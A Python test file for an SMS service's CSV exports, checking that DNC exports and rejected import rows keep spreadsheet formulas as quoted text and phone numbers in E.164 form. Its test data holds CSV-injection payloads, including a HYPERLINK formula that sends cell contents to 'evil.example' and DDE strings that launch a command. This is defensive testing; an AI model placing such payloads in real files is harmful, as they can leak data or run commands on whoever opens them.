"""The CSV files we write (DNC exports over the API and the CLI, rejected rows of an import) keep
a typed formula as text, and E.164 numbers as they are."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from proactive_sms.interfaces.api.app import create_app
from proactive_sms.services import administration, api_keys
from tests.factories import person, write_csv
from tests.interfaces import test_cli

psms = test_cli.psms

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_api_dnc_export_keeps_a_formula_note_as_text(engine, bu, clock):
    administration.dnc_add(engine, bu, clock, ["2125550100"], note=FORMULA)
    client = TestClient(create_app(engine, clock))
    key = api_keys.create(engine, bu, clock, "exports").secret
    response = client.get("/v1/dnc/lists/default/export",
                          headers={"Authorization": f"Bearer {key}"})
    assert response.status_code == 200
    (header, row) = list(csv.reader(io.StringIO(response.text)))
    assert row[0] == "+12125550100"  # the number, usable as it is
    assert row[header.index("note")] == "'" + FORMULA


def test_the_cli_dnc_export_and_rejected_rows_keep_formulas_as_text(psms, tmp_path):
    psms("dnc", "add", "2125550100", "--note", "@SUM(1+1)*cmd|' /C calc'!A0")
    exported = list(csv.reader(io.StringIO(psms("dnc", "export"))))
    assert exported[1][0] == "+12125550100"
    assert exported[1][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    rows = [person(1, PhoneNumber="=2+5+cmd|' /C calc'!A0"), person(2)]
    path = write_csv(tmp_path / "people.csv", rows)
    psms("list", "import", str(path), "--name", "people", "--errors",
         str(tmp_path / "rejected.csv"))
    (header, rejected) = list(csv.reader((tmp_path / "rejected.csv").open(encoding="utf-8")))
    assert rejected[header.index("PhoneNumber")] == "'=2+5+cmd|' /C calc'!A0"
